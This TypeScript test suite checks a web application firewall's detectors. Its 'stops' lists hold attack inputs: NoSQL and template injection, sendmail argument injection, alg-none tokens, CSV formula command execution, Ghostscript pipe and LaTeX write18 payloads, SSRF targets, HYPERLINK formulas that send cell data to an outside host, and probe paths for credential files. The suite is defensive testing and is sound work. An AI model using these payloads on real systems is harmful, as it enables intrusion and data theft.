import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Detector, Zone } from '../waf.ts';
import { code } from './code/code.ts';
import { deserialisation } from './deserialisation.ts';
import { lookup } from './lookup.ts';
import { mailSender } from './mail-sender.ts';
import { nosqlNames, nosqlQueries } from './nosql-queries.ts';
import { scanner } from './scanner.ts';
import { ssrf } from './ssrf/ssrf.ts';
import { template } from './template.ts';
import { token } from './token.ts';
import { traversal } from './traversal.ts';
import { trial } from './trial.ts';
import { upload } from './upload.ts';

interface Rows {
  readonly detector: Detector;
  readonly zone: Zone;
  readonly name?: string;
  readonly part?: 'name' | 'value';
  readonly stops: readonly string[];
  readonly passes: readonly string[];
}

const families: Readonly<Record<string, Rows>> = {
  'queries of document stores': {
    detector: nosqlQueries,
    zone: 'query',
    stops: [
      "x' ALLOW FILTERING;",
      "'; DROP KEYSPACE a; --",
      "return redis.call('get','a')",
      "' || true FOR u IN users RETURN u //",
      "'; r.db('x').table('u').delete(); //",
      'a"}},{"match_all":{}},{"term":{"a":"b',
    ],
    passes: [
      'for each user in the team return a badge',
      'union match (3 pm)',
      'like this, "role": the role',
      'let x = 5',
    ],
  },
  'searches through secrets': {
    detector: nosqlNames,
    zone: 'query',
    part: 'name',
    stops: ['password[$startsWith]', 'user__password__regex', 'filters[user][resetPasswordToken][$contains]'],
    passes: ['password', 'filters[name][$contains]', 'price__gte', 'password_confirmation', 'notify_password_changes'],
  },
  'options and expansions of mail programs': {
    detector: mailSender,
    zone: 'form',
    name: 'email',
    stops: ['a@b.example -OQueueDirectory=/tmp -X/var/www/a.php', '${run{id}}@b.example', '=?utf-8?q?a=0aBcc:b?='],
    passes: ['Bob | Sales | bob@corp.example', 'tar -x file', '=?utf-8?q?Gr=C3=BC=C3=9Fe?='],
  },
  'tokens without signature or with a key of their own': {
    detector: token,
    zone: 'header',
    name: 'authorization',
    stops: [
      'Bearer eyJhbGciOiJub25lIn0.eyJhIjoxfQ.',
      'Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii9kZXYvbnVsbCJ9.eyJhIjoxfQ.c2ln',
    ],
    passes: ['Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.abcDEF', 'eyJhIjoxfQ'],
  },
  'paths only tools ask for': {
    detector: scanner,
    zone: 'path',
    stops: ['/remote/fgt_lang', '/wp-includes/wlwmanifest.xml', '/nacos', '/.git-credentials'],
    passes: [
      '/remote/team',
      '/api/v1/nodes',
      '/wp-includes/js/jquery/jquery.min.js',
      '/metadata-guide',
      '/actuator/health',
      '/autodiscover/autodiscover.xml',
    ],
  },
  'files that harm who opens or converts them': {
    detector: upload,
    zone: 'file',
    name: 'file',
    stops: [
      "a,b\n=cmd|' /C calc'!A0,1",
      '%!PS\n(%pipe%id) (w) file',
      '\\immediate\\write18{id}',
      '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd',
      '[InternetShortcut]\nURL=file://10.0.0.5/a',
    ],
    passes: [
      'a,b\n=SUM(A1:A5),-5',
      '%!PS-Adobe-3.0\nnewpath',
      '\\input{chapters/one}',
      '#EXTM3U\nhttps://a.example/1.ts',
    ],
  },
  'what installers, servers and consoles leave behind': {
    detector: scanner,
    zone: 'path',
    stops: [
      '/configuration.php-dist',
      '/config/database.yml.sample',
      '/settings.php.1',
      '/error_log',
      '/logs/access.log',
      '/npm-debug.log',
      '/php-errors.log',
      '/firebase-adminsdk.json',
      '/my-app-firebase-adminsdk-x1y2z.json',
      '/config/service-account.json',
      '/solr/core1/config',
      '/app/rest/users/id:1/tokens/RPC2',
      '/Orion/invalid.aspx.js',
      '/_layouts/15/spinstall0.aspx',
      '/webtools/control/xmlrpc',
    ].map(path => path.toLowerCase()),
    passes: [
      '/blog/log',
      '/changelog',
      '/docs/error-log',
      '/api/logs',
      '/v1/service-accounts',
      '/solr-guide',
      '/index.html',
      '/_layouts/15/start.aspx',
      '/app.min.js',
    ],
  },
  'objects that readers of JSON make something else of': {
    detector: deserialisation,
    zone: 'query',
    stops: [
      '{"json_class":"OpenStruct","a":"id"}',
      '{"type":"Buffer","data":{"length":1e9}}',
      '{"type":"Buffer","data":2147483647}',
      '{"data":{"length":99999999},"type":"Buffer"}',
      '{"_bsontype":"Code","code":"x"}',
      '{"__type":"System.Windows.Application, PresentationFramework","Resources":{}}',
    ],
    passes: [
      '{"type":"Buffer","data":[1,2,3]}',
      '{"type":"buffer","data":"YWJj"}',
      '{"class":"OpenStruct"}',
      '{"__type":"Order:#Shop.Data","id":1}',
    ],
  },
  'products between signs, chains of filters': {
    detector: template,
    zone: 'query',
    stops: ['~[1337*1337]', '#(12*12)', '{% set x=(()|select|string)[24] %}{{x}}', '{$_SERVER.DOCUMENT_ROOT|system}'],
    passes: ['(12*12)', '[3*4]', '= 12*12', '$(12*12 cm)', '**bold** 3*4', '{{ name|upper }}', '{$user.name|escape}'],
  },
  'scripts that are to be shown, files of other machines': {
    detector: traversal,
    zone: 'query',
    name: 'path',
    stops: [
      'index.php%20',
      'a/b.jsp%00',
      'x.aspx%5c',
      '/..;a=b/..;c/manager/status',
      '//198.51.100.5/a.txt',
      '\\\\198.51.100.5\\s\\a.dll',
    ],
    passes: ['index.php', 'docs/a.php?x=1', '//cdn.example.com/a.js', 'a%20b.txt', '1//2', 'v1..2/notes'],
  },
  'what a server would fetch from itself': {
    detector: ssrf,
    zone: 'query',
    name: 'callback',
    stops: ['https://localhost:9443', 'http://0.0.0.0:80/', 'http://ip6-localhost/', 'https://127.0.0.1/'],
    passes: ['http://localhost:3000/auth/callback', 'http://localhost:3000', 'https://a.example/'],
  },
  'schemes and names that lead inside': {
    detector: ssrf,
    zone: 'query',
    name: 'url',
    stops: [
      'netloc://127.0.0.1',
      'any+thing://10.0.0.1:80/',
      'http://A.8.8.8.8.1time.127.0.0.1.1time.repeat.rebind.network/',
      'http://x.localdomain.pw/',
    ],
    passes: ['app://settings', 'tel://112', 'https://rebind.example/'],
  },
  'properties put together, formulas that send what is beside them': {
    detector: code,
    zone: 'query',
    stops: [
      "globalThis['pro'+'cess'].env",
      'this["con"+"structor"]',
      '=HYPERLINK("http://x.example/?l="&A1&A2,"error")',
      '=HYPERLINK(CONCATENATE("http://x.example/",A1),"a")',
    ],
    passes: ["a['pro'+name]", '=HYPERLINK("https://a.example/","A")', "['a'+'b']"],
  },
  'lone lookups': {
    detector: lookup,
    zone: 'query',
    stops: ['${main:0}', '${k8s:podName}', '${sys:a:-b}', "#{systemProperties['a']}"],
    passes: ['Dear ${firstName}', '${project.version}', 'use ${HOME}/bin'],
  },
};

describe('techniques beyond the well-known ones', () => {
  for (const [family, { detector, stops, passes, ...at }] of Object.entries(families)) {
    it(`stop at level 1 and pass what only looks alike: ${family}`, () => {
      assert.deepEqual(
        stops.filter(text => trial(detector, text, at).points < 5),
        [],
      );
      assert.deepEqual(
        passes.filter(text => trial(detector, text, at).points >= 5),
        [],
      );
    });
  }
});
